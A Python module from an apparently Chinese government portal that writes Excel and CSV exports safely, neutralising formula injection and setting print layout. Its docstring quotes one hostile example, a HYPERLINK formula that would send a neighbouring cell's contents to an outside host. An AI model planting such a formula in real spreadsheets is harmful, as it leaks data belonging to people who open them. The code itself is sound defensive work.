"""Writing workbooks people will open in Excel or WPS: the one writer every workbook the portal writes
goes through. Text that starts like a formula (= + - @, tab, CR) must never run in a leader's or a
clerk's copy: an org unit renamed to =HYPERLINK("http://…"&C6,"园林街道") would otherwise be a live link
that sends the neighbouring cell away.

- `new_workbook()` is the only way portal code makes a workbook (tests/architecture/test_xlsx_writers.py
  fails on an openpyxl Workbook or load_workbook anywhere else);
- `put(cell, value)` and `append_row(sheet, values)` write cells: text stays text (`put_text`);
- `SafeWorkbook.save` looks at every cell once more before saving and turns any formula or error cell,
  and any unprotected text starting like a formula, into protected text. The portal writes no formulas
  of its own in cells (conditional formatting and validation rules are not cells), so nothing it means
  is lost; a writer that forgets `put` is still safe."""

from __future__ import annotations

from collections.abc import Iterable
from io import BytesIO

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

# Text starting with one of these would be read as a formula by Excel or WPS (formula injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def put_text(cell: Cell, text: str) -> Cell:
    """Write text that stays text: a leading = + - @ must never become a formula. Control characters
    XML cannot hold (a name pasted from another system) become U+FFFD instead of failing the export."""
    text = ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", text)
    cell.value = text
    if cell.data_type != "s" or text.startswith(FORMULA_STARTS):
        cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula, "#N/A" as an error
        cell.quotePrefix = True  # Excel's leading apostrophe: stays text when the cell is edited
    return cell


def put(cell: Cell, value: object) -> Cell:
    """Write any value: text through `put_text`, numbers, dates and blanks as they are."""
    if isinstance(value, str):
        return put_text(cell, value)
    cell.value = value
    return cell


def append_row(sheet: Worksheet, values: Iterable[object]) -> int:
    """openpyxl's `sheet.append`, every value through `put`; returns the row written."""
    cells = [put(Cell(sheet), value) for value in values]
    sheet.append(cells)
    return cells[0].row if cells else sheet.max_row


def print_setup(
    sheet: Worksheet, *, title: str, header_rows: str | None = None, one_page: bool = False
) -> None:
    """How every sheet the portal writes prints (issue 22 point 7): A4 landscape, one page wide (as many
    pages tall as it takes, or one page in all with `one_page`), the header rows (`"4:4"`) repeated on
    every page, the title and the day it was made in the page header, the page numbers in the footer."""
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    sheet.page_setup.fitToWidth = 1
    sheet.page_setup.fitToHeight = 1 if one_page else 0
    sheet.sheet_properties.pageSetUpPr.fitToPage = True
    sheet.print_options.horizontalCentered = True
    if header_rows:
        sheet.print_title_rows = header_rows
    made = timezone.localtime().strftime("%Y-%m-%d")
    sheet.oddHeader.center.text = _header_text(title)
    sheet.oddHeader.right.text = f"制表日期:{made}"
    sheet.oddFooter.center.text = "第 &P 页,共 &N 页"
    sheet._portal_print_setup = True  # marks the sheet done for SafeWorkbook.save


def _header_text(text: str) -> str:
    """Page headers read & as a code (&P is the page number): a title's own & is written &&; Excel
    keeps at most 255 characters of a header part."""
    return text.replace("&", "&&")[:200]


class SafeWorkbook(Workbook):
    """A workbook that protects every cell again when it is saved (see the module docstring), and gives
    a sheet its writer did not set up for printing the portal's print setup (print_setup), titled by the
    sheet's name: every workbook the portal writes prints."""

    def save(self, filename) -> None:
        for sheet in self.worksheets:
            if sheet.sheet_state == "visible" and not getattr(sheet, "_portal_print_setup", False):
                print_setup(sheet, title=sheet.title)
        for sheet in self.worksheets:
            # Worksheet._cells: the cells that exist. iter_rows() would create every empty cell of the
            # used range; the pinned openpyxl (requirements.txt) and tests/common/test_xlsx.py hold it.
            for cell in list(sheet._cells.values()):
                if _looks_live(cell):
                    put_text(cell, str(cell.value))
        super().save(filename)


def _looks_live(cell: Cell) -> bool:
    if cell.value is None:
        return False
    if cell.data_type in ("f", "e"):
        return True
    return isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS) and not cell.quotePrefix


def new_workbook() -> SafeWorkbook:
    return SafeWorkbook()


def workbook_bytes(book: SafeWorkbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def number_format(places: int, *, percent: bool = False, grouping: bool = True) -> str:
    base = ("#,##0" if grouping else "0") + ("." + "0" * places if places else "")
    return base + ("%" if percent else "")


def csv_text(value: object) -> object:
    """A CSV cell that Excel and WPS will not run: text starting like a formula gets a leading
    apostrophe (OWASP's advice for CSV, which has no cell types). Numbers and dates pass unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text_read(value: object) -> object:
    """Undo csv_text on import, so a remark exported and imported again comes back as it was."""
    if isinstance(value, str) and value[:1] == "'" and value[1:2] and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
